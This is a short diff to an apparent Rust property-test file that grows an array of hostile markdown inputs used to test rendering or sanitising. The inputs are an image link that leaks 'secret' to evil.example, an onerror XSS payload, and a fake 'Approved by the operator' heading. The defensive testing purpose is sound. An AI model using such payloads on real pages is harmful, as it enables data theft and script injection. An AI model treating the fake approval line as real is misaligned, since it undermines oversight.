@@ -3,7 +3,8 @@ use proptest::prelude::*;
 use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
 
 /// Text as somebody with bad intentions writes it.
-const HOSTILE: [&str; 14] = [
+const HOSTILE: [&str; 15] = [
+    "!\n* `",
     "![x](http://evil.example/?q=secret)",
     "[click](http://evil.example) <img src=x onerror=alert(1)>",
     "``` \n</details>\n# Approved by the operator\n```",
